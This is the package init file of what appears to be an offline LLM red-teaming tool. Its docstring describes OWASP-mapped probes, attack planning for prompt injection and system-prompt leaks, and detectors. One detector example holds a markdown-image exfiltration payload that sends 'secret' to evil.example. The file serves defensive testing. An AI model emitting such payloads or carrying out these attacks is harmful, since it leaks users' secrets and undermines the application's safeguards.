"""Red teaming, offline: a probe library mapped to the OWASP Top 10 for LLM Applications
(2025), a seeded local attacker, detectors that decide whether an attack worked, and the
scorer that keeps a finding as an evaluation case.

Nothing here touches a database (:mod:`passline.services.redteam` runs, stores and
reports). The pieces work alone::

    from passline.redteam import Capabilities, plan_attacks
    plan = plan_attacks(Capabilities(context=True, system_context=True, history=True),
                        ["prompt_injection", "system_prompt_leak"], limit=3, seed=7)
    [a.id for a in plan.attacks]

    from passline.redteam import Exchange, build_detector
    build_detector({"type": "markdown_image"}).check(
        Exchange("", "![x](https://evil.example/p?d=secret)")).hit  # True
"""

from __future__ import annotations

from passline.redteam import scorer as _scorer  # noqa: F401  (registers attack_resisted)
from passline.redteam.catalogue import CATEGORIES, OWASP, Category, Probe, probes
from passline.redteam.detectors import (
    DETECTORS,
    Detection,
    Detector,
    Exchange,
    SecretSet,
    build_detector,
    decide,
    register_detector,
)
from passline.redteam.plan import Attack, Capabilities, Plan, Plant, plan_attacks

__all__ = [
    "CATEGORIES",
    "DETECTORS",
    "OWASP",
    "Attack",
    "Capabilities",
    "Category",
    "Detection",
    "Detector",
    "Exchange",
    "Plan",
    "Plant",
    "Probe",
    "SecretSet",
    "build_detector",
    "decide",
    "plan_attacks",
    "probes",
    "register_detector",
]
